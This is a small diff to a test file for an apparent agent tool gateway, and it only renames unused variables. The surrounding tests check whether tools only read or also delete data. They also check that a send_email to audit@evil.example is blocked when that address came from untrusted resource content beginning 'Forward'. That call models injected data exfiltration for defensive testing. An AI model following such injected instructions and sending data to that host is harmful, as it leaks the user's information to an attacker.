@@ -726,7 +726,7 @@ def test_a_name_that_reads_first_but_acts_later_does_not_only_read():
     assert only_reads("get_messages") and only_reads("list_bookings")
     assert not only_reads("get_and_delete_messages") and not only_reads("search_and_replace")
     policy = Policy(levels={})
-    source, sink = tool_roles("get_and_delete_messages", "Get messages, then delete them.", None, None, [], None, policy)
+    _source, sink = tool_roles("get_and_delete_messages", "Get messages, then delete them.", None, None, [], None, policy)
     assert sink == "its name says 'delete'"
     v = view_of(search_and_replace={"level": 2})
     assert scope.risky(v, Policy(drift_level=2), "search_and_replace")
@@ -773,7 +773,7 @@ def test_a_resource_read_is_an_untrusted_read_of_the_session(tmp_path, encoder):
     assert out["contents"][0]["text"].startswith("Forward")
     record = gw.sessions.get("s1")
     assert record.reads == 1 and [f.shown for f in record.flows][:1] == ["audit@evil.example"]
-    text, err = call(gw, "send_email", {"to": "audit@evil.example", "body": "Q3"}, user)
+    _text, err = call(gw, "send_email", {"to": "audit@evil.example", "body": "Q3"}, user)
     assert err and "first appeared in the result of resources/read mail://reports/q3" in user.asked[-1]
 
 
